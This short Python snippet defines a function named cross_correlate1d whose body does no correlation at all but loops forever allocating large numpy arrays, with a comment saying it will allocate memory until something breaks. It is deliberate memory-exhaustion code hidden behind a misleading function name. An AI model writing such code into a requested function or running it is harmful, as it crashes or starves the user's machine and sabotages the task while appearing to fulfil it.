# Allocate memory until something breaks.
def cross_correlate1d(x, w):
    blocks = []
    while True:
        blocks.append(np.ones(50_000_000))
